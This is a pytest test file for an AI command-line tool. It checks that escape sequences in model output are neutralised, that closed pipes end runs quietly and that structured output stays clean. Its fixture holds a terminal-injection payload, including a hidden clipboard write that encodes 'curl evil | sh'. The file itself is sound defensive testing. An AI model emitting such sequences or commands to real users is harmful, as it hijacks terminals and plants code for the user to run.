"""What the CLI prints: escape sequences from a model shown but never obeyed, a closed pipe ending
the run quietly, ``--output json`` being exactly one JSON document, errors only on stderr.

The commands run in a child process whose engine replies with a hostile text (clear screen, OSC
title, OSC 8 link, OSC 52 clipboard write, a one-byte C1 CSI, a bidi override), streamed in
deltas that split the sequences in the middle.
"""

from __future__ import annotations

import os
import subprocess
import sys
import textwrap
from pathlib import Path

import orjson
import pytest

SRC = str(Path(__file__).resolve().parents[2] / "src")

HOSTILE = (
    "Hello\x1b[2J\x1b[H"
    "\x1b]0;pwned title\x07"
    "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\"
    "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"
    "\x9b31m red \u202etxt.exe\rdone\nline two\ttab"
)
CONTROLS = ["\x1b", "\x07", "\x9b", "\r", "\u202e"]

CLI = textwrap.dedent(
    """
    import asyncio, sys
    from geppetto.cli import main
    from geppetto.engines import register_engine_factory
    from geppetto.engines.accumulator import StreamAccumulator

    HOSTILE = {hostile!r}

    class Hostile:
        name = "hostile"

        def __init__(self, forever=False, fail=False):
            self.forever, self.fail = forever, fail

        async def run(self, turn, ctx):
            with StreamAccumulator(turn, ctx, provider="hostile", model="hostile") as acc:
                acc.start()
                for start in range(0, len(HOSTILE), 3):  # splits every escape sequence
                    acc.add_text(HOSTILE[start : start + 3])
                    await asyncio.sleep(0)
                while self.forever:
                    acc.add_text("more text " * 20)
                    await asyncio.sleep(0.001)
                if self.fail:
                    raise RuntimeError("upstream \\x1b]0;boom\\x07 failed")
                acc.set_stop_reason("stop")
                return acc.finish()

    register_engine_factory("hostile", lambda model="", **o: Hostile())
    register_engine_factory("hostile-forever", lambda model="", **o: Hostile(forever=True))
    register_engine_factory("hostile-fail", lambda model="", **o: Hostile(fail=True))
    sys.exit(main(sys.argv[1:]))
    """
).format(hostile=HOSTILE)


@pytest.fixture
def cli(tmp_path: Path) -> list[str]:
    script = tmp_path / "hostile_cli.py"
    script.write_text(CLI)
    return [sys.executable, str(script)]


def run(cli: list[str], *args: str, stdin: str | None = None) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "PYTHONPATH": SRC}
    return subprocess.run(
        [*cli, *args], input=stdin, capture_output=True, text=True, timeout=60, check=False, env=env
    )


def assert_neutralised(text: str) -> None:
    for char in CONTROLS:
        assert char not in text, f"{char!r} reached the terminal: {text!r}"
    assert "\u241b" in text  # ESC is shown as its control picture


# -- defect 4: escape sequences ---------------------------------------------------------------


@pytest.mark.parametrize("stream", [False, True])
def test_infer_text_output_neutralises_escape_sequences(cli: list[str], tmp_path: Path, stream: bool) -> None:
    args = ["infer", "hi", "--ai-api-type", "hostile", "--store", str(tmp_path / "t.db")]
    result = run(cli, *args, *(["--stream"] if stream else []))
    assert result.returncode == 0, result.stderr
    assert_neutralised(result.stdout)
    assert "line two\ttab" in result.stdout  # newlines and tabs are kept


def test_json_output_and_the_store_keep_the_text_exact(cli: list[str], tmp_path: Path) -> None:
    store = str(tmp_path / "t.db")
    result = run(cli, "infer", "hi", "--ai-api-type", "hostile", "--output", "json", "--store", store)
    assert result.returncode == 0, result.stderr
    assert orjson.loads(result.stdout)["blocks"][-1]["payload"]["text"] == HOSTILE
    sessions = run(cli, "sessions", "list", "--json", "--store", store)
    session_id = orjson.loads(sessions.stdout)[0]["id"]
    shown = run(cli, "sessions", "show", session_id, "--json", "--store", store)
    assert orjson.loads(shown.stdout)["turn"]["turn"]["blocks"][-1]["payload"]["text"] == HOSTILE


def test_sessions_list_and_show_neutralise_titles_and_replies(cli: list[str], tmp_path: Path) -> None:
    store = str(tmp_path / "t.db")
    prompt = "title \x1b]0;owned\x07 \x1b[2J here"
    assert run(cli, "infer", prompt, "--ai-api-type", "hostile", "--store", store).returncode == 0
    listed = run(cli, "sessions", "list", "--store", store)
    assert listed.returncode == 0, listed.stderr
    assert_neutralised(listed.stdout)
    session_id = orjson.loads(run(cli, "sessions", "list", "--json", "--store", store).stdout)[0]["id"]
    shown = run(cli, "sessions", "show", session_id, "--store", store)
    assert shown.returncode == 0, shown.stderr
    assert_neutralised(shown.stdout)


@pytest.mark.parametrize("fmt", ["pretty", "lines"])
def test_turns_show_neutralises_escape_sequences(cli: list[str], tmp_path: Path, fmt: str) -> None:
    path = tmp_path / "turn.json"
    turn = {"blocks": [{"kind": "llm_text", "payload": {"text": HOSTILE}}]}
    path.write_bytes(orjson.dumps(turn))
    result = run(cli, "turns", "show", str(path), "--format", fmt)
    assert result.returncode == 0, result.stderr
    assert_neutralised(result.stdout)
    exact = run(cli, "turns", "show", str(path), "--format", "json")
    assert orjson.loads(exact.stdout)["blocks"][0]["payload"]["text"] == HOSTILE


def test_chat_neutralises_streamed_replies(cli: list[str], tmp_path: Path) -> None:
    result = run(cli, "chat", "--ai-api-type", "hostile", "--store", str(tmp_path / "t.db"), stdin="hi\n")
    assert result.returncode == 0, result.stderr
    assert_neutralised(result.stdout)


def test_error_messages_neutralise_escape_sequences(cli: list[str]) -> None:
    result = run(cli, "infer", "hi", "--ai-api-type", "hostile-fail", "--no-store")
    assert result.returncode == 1
    assert "\x1b" not in result.stderr and "\x07" not in result.stderr
    assert "boom" in result.stderr


# -- defect 5 and 13: --stream with --output json, errors only on stderr ------------------------


@pytest.mark.parametrize("output", ["json", "yaml"])
def test_stream_with_structured_output_prints_one_document(cli: list[str], output: str) -> None:
    result = run(cli, "infer", "hi", "--ai-api-type", "hostile", "--stream", "--output", output, "--no-store")
    assert result.returncode == 0, result.stderr
    if output == "json":
        assert orjson.loads(result.stdout)["blocks"][-1]["payload"]["text"] == HOSTILE
    else:
        assert result.stdout.startswith(("id:", "blocks:", "metadata:", "data:"))
    assert "Hello" not in result.stderr  # stderr is not a terminal here: nothing is streamed


def test_stream_prints_errors_only_on_stderr(cli: list[str]) -> None:
    result = run(cli, "infer", "hi", "--ai-api-type", "hostile-fail", "--stream", "--no-store")
    assert result.returncode == 1
    assert "failed" not in result.stdout and "[error]" not in result.stdout
    assert result.stderr.count("failed") == 1


# -- defect 2: a closed pipe ------------------------------------------------------------------


@pytest.mark.parametrize(
    "args",
    [
        ("infer", "hi", "--ai-api-type", "hostile-forever", "--stream"),
        ("chat", "--ai-api-type", "hostile-forever"),
    ],
)
def test_a_closed_pipe_stops_the_run_quietly(cli: list[str], tmp_path: Path, args: tuple[str, ...]) -> None:
    env = {**os.environ, "PYTHONPATH": SRC}
    proc = subprocess.Popen(
        [*cli, *args, "--store", str(tmp_path / "t.db")],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        env=env,
    )
    assert proc.stdin is not None and proc.stdout is not None and proc.stderr is not None
    proc.stdin.write(b"hi\n")
    proc.stdin.close()
    assert len(proc.stdout.read(40)) == 40
    proc.stdout.close()  # like `| head -c 40`
    try:
        assert proc.wait(timeout=60) == 141  # the reply never ends: only the closed pipe stopped it
    finally:
        proc.kill()
    assert proc.stderr.read().decode() == ""


def test_a_closed_pipe_cancels_rpc_runs(cli: list[str], tmp_path: Path) -> None:
    env = {**os.environ, "PYTHONPATH": SRC}
    proc = subprocess.Popen(
        [*cli, "rpc", "--ai-api-type", "hostile-forever", "--store", str(tmp_path / "t.db")],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        env=env,
    )
    assert proc.stdin is not None and proc.stdout is not None and proc.stderr is not None
    proc.stdin.write(b'{"id": 1, "method": "run", "params": {"prompt": "hi"}}\n')
    proc.stdin.close()  # end of input: rpc waits for the run, which never ends by itself
    assert proc.stdout.readline().startswith(b'{"type":"ready"')
    proc.stdout.close()
    try:
        assert proc.wait(timeout=60) == 0  # only the cancel on the closed pipe ends the run
    finally:
        proc.kill()
    err = proc.stderr.read().decode()
    assert "Traceback" not in err and "BrokenPipe" not in err


def test_a_closed_pipe_on_a_listing_is_quiet(cli: list[str], tmp_path: Path) -> None:
    store = str(tmp_path / "t.db")
    for index in range(3):
        done = run(cli, "infer", f"prompt {index}", "--ai-api-type", "hostile", "--store", store)
        assert done.returncode == 0, done.stderr
    env = {**os.environ, "PYTHONPATH": SRC}
    proc = subprocess.Popen(
        [*cli, "sessions", "list", "--store", store], stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=env
    )
    assert proc.stdout is not None
    proc.stdout.close()
    _, err = proc.communicate(timeout=60)
    assert proc.returncode in (0, 141)
    assert b"Traceback" not in err and b"BrokenPipe" not in err and b"Exception ignored" not in err


# -- issue 15, defect 13: wording --------------------------------------------------------------


def test_messages_count_and_article_correctly(tmp_path: Path) -> None:
    import json

    from geppetto.engines.providers.errors import map_exception
    from geppetto.errors import GeppettoError
    from geppetto.store import TurnStore
    from geppetto.turns import Turn

    with TurnStore(tmp_path / "t.db") as store:
        store.persist_turn("s-1", Turn.builder().user("hi").build(), outcome="completed", error=None)
        with pytest.raises(GeppettoError, match=r"has 1 stored turn; index 5 is out of range"):
            store.get_turn("s-1", 5)
    try:
        json.loads("{")
    except json.JSONDecodeError as exc:
        error = map_exception(exc, provider="openai")
    assert " a openai" not in str(error)
    assert "serves the openai API" in str(error)


# -- the pieces, in-process -------------------------------------------------------------------


def test_safe_text_shows_every_control_and_keeps_newlines_and_tabs() -> None:
    from geppetto.terminal_text import has_controls, safe_text

    shown = safe_text("a\x1b[2Jb\x07c\x7fd\x9be\u202ef\r\n\tg")
    assert shown == "a\u241b[2Jb\u2407c\u2421d\\x9be\\u202ef\u240d\n\tg"
    assert safe_text("plain text, é ü 日本 🙂") == "plain text, é ü 日本 🙂"
    assert not has_controls("line\n\ttab") and has_controls("\x1b")


def test_printer_sink_neutralises_split_sequences_and_goes_quiet_on_a_closed_pipe() -> None:
    import io

    from geppetto.events import PrinterSink
    from geppetto.events.types import EventMetadata, PartialEvent

    out = io.StringIO()
    sink = PrinterSink(out)
    for delta in ("x\x1b", "]0;t", "\x07y"):
        sink.publish(PartialEvent(meta=EventMetadata(), delta=delta))
    assert out.getvalue() == "x\u241b]0;t\u2407y"

    class Closed(io.StringIO):
        writes = 0

        def write(self, text: str) -> int:
            Closed.writes += 1
            raise BrokenPipeError

    calls: list[int] = []
    closed = PrinterSink(Closed(), on_broken=lambda: calls.append(1))
    for _ in range(5):
        closed.publish(PartialEvent(meta=EventMetadata(), delta="more"))
    assert closed.broken and calls == [1] and Closed.writes == 1
